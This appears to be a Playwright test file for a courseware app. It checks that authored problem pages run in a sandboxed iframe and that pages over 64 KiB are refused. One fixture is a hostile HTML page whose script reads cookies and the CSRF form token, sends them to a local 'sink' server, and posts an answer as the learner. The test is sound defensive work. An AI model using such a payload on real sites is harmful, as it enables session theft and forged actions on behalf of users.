import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { ensureWebCertificate } from '../../src/certs/web-certs.ts';
import { DEMO_PROBLEM, DEMO_USER } from '../../src/cli/demo-content.ts';
import { launchChromium } from '../harness/chromium.ts';
import { browse, Jar } from '../harness/cookie-jar.ts';
import { logIn, startDemo, stopDemo, type RunningDemo } from '../harness/demo.ts';
import { waitFor } from '../harness/wait.ts';

// Any user may publish a page, so a problem is another party's HTML: the courseware shows it
// sandboxed (examples/courseware/authored-page.ts). Here a real browser opens a problem whose
// script tries to act as the learner, and a page past the course's size cap.

/** A form's hidden field, from the page that holds the form. */
const field = (text: string, name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(text)?.[1] ?? '';

/** The text a learner must still see in the hostile problem. */
const VISIBLE = 'A stone falls from rest: its acceleration, in m/s²? (sandbox check)';

/** A problem that, run in the app's origin, reads the cookie and the form token, sends them out and answers as the learner. */
const hostileProblem = (sink: string) => `<!doctype html><html><head><title>x</title></head><body>
<h2>Problem 1: free fall</h2><p>${VISIBLE}</p>
<script>
document.addEventListener('DOMContentLoaded', () => {
  const token = document.querySelector('input[name=form_token]')?.value ?? '';
  const seen = 'cookie=' + encodeURIComponent(document.cookie) + '&token=' + encodeURIComponent(token);
  window.top.document.title = 'the problem script ran: ' + seen;
  fetch('${sink}/stolen?' + seen, { mode: 'no-cors' });
  fetch('/course/problem1/answer', { method: 'POST', body: new URLSearchParams({ form_token: token, answer: 'posted by the problem' }) });
});
</script>
<img src="${sink}/beacon.png" alt=""></body></html>`;

describe("courseware: authors' pages in a browser (chromium)", () => {
  const dir = mkdtempSync(join(tmpdir(), 'cohort-course-browser-'));
  let browser: Browser;
  let demo: RunningDemo | undefined;
  let front = '';
  // Where the problem's script would send what it read: any request reaching it is a leak.
  const leaks: string[] = [];
  let sink: Server;
  let sinkUrl = '';

  before(async () => {
    browser = await launchChromium();
    demo = await startDemo(dir);
    front = demo.front;
    // HTTPS like the front (a page on HTTPS may not reach a plain HTTP address at all: that would
    // hide a leak), its certificate from the demo's CA, which the browser context accepts.
    const cert = ensureWebCertificate(demo.run.table.tlsDir, 'sink', ['127.0.0.1']);
    sink = createServer({ cert: readFileSync(cert.cert), key: readFileSync(cert.key) }, (req, res) => {
      leaks.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
    sinkUrl = `https://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  });
  after(async () => {
    await browser?.close();
    if (demo) await stopDemo(demo);
    sink?.closeAllConnections();
    await new Promise((r) => sink?.close(r));
    rmSync(dir, { recursive: true, force: true });
  });

  it("a problem's script does not run in the app's origin: no cookie, no form token, no answer posted, no request out; the problem's text is shown", async () => {
    // ann, the problem's author, publishes the hostile version from the authoring page.
    const ann = await logIn(front, DEMO_USER.user, DEMO_USER.domain);
    const authoring = await browse(ann, `${front}course/author`);
    const published = await browse(ann, `${front}course/author/problem1`, {
      method: 'POST',
      body: new URLSearchParams({ form_token: field(authoring.text, 'form_token'), base: field(authoring.text, 'base'), html: hostileProblem(sinkUrl) }),
    });
    assert.equal(published.res.status, 303, published.text);
    // Her editing form shows the script as text (escaped in the textarea), never as markup.
    const editing = await browse(ann, new URL(published.res.headers.get('location')!, front).href);
    assert.match(editing.text, /<textarea name="html"[^>]*>[^<]*&lt;script&gt;[^<]*<\/textarea>/);
    assert.doesNotMatch(editing.text, /<script/i);

    // bob, a learner, in chromium: a cookie scripts could read (not httpOnly) besides the session's.
    // The front's and the sink's certificates are the demo cluster's CA's, which this browser does not hold.
    const context = await browser.newContext({ ignoreHTTPSErrors: true });
    await context.addCookies([{ name: 'probe', value: 'readable-by-scripts', url: front }]);
    const page = await context.newPage();
    try {
      await page.goto(front);
      await page.locator('input[name=user]').fill('bob');
      await page.locator('input[name=domain]').fill('rice');
      await page.locator('input[name=password]').fill('demo-password');
      await page.getByRole('button', { name: 'Log in' }).click();
      // On a timeout, say where the browser is and what it shows: this wait is where a failed login shows.
      await page.getByText('Logged in as').waitFor({ timeout: 30_000 }).catch(async (err: Error) => {
        const body = await page.locator('body').innerText({ timeout: 1000 }).catch(() => '(no body)');
        assert.fail(`${err.message}\nthe browser is at ${page.url()}, showing:\n${body.slice(0, 2000)}`);
      });

      // Every node's copy follows the publish: open the problem until it is the new version.
      await waitFor('the hostile version on the problem page', async () => {
        await page.goto(`${front}course/problem1`);
        return (await page.content()).includes('sandbox check');
      }, 30_000, 200);
      await page.waitForLoadState('networkidle');
      assert.deepEqual(leaks, [], 'nothing reached the sink (no fetch, no image)');
      assert.equal(await page.title(), 'Problem 1: free fall', "the page's title is the app's");
      assert.match(await page.locator('input[name=form_token]').inputValue(), /^[\w-]{20,}$/, "bob's own form is there");
      await page.frameLocator('iframe.problem').getByText(VISIBLE).waitFor({ state: 'visible', timeout: 10_000 });
      assert.equal(await page.locator('iframe.problem').getAttribute('sandbox'), '', 'sandboxed: no scripts, an opaque origin');

      await page.goto(`${front}course/submissions`);
      assert.match(await page.locator('body').innerText(), /No submissions yet/, 'no answer posted as bob');
    } finally {
      await context.close();
    }
  });

  it('a problem page past the 64 KiB the course shows: 502 and why on the problem page, a note instead of the form on the authoring page', async () => {
    const file = join(dir, 'too-large.html');
    writeFileSync(file, `<!doctype html><html><body><p>${'long '.repeat(14_000)}</p></body></html>`); // 70 KB
    const out = await demo!.run.cliJson<{ version: number }>(['publish', file, DEMO_PROBLEM, '--as', DEMO_USER.user, '--from', DEMO_USER.home]);
    const learner = new Jar();
    const page = await waitFor('the problem page to refuse the large version', async () => {
      const p = await browse(learner, `${front}course/problem1`);
      return p.res.status === 502 ? p : undefined;
    }, 30_000, 200);
    assert.match(page.text, /The problem page cannot be shown: the page is larger than the 64 KiB the course shows\./);
    assert.doesNotMatch(page.text, /long long/);

    const ann = await logIn(front, DEMO_USER.user, DEMO_USER.domain);
    const authoring = await waitFor('the authoring page at the large version', async () => {
      const p = await browse(ann, `${front}course/author`);
      return p.text.includes(`version ${out.version}.`) ? p : undefined;
    }, 30_000, 200);
    assert.equal(authoring.res.status, 200);
    assert.match(authoring.text, /This version cannot be edited here: the page is larger than the 64 KiB the course shows\./);
    assert.doesNotMatch(authoring.text, /<textarea/);
  });
});
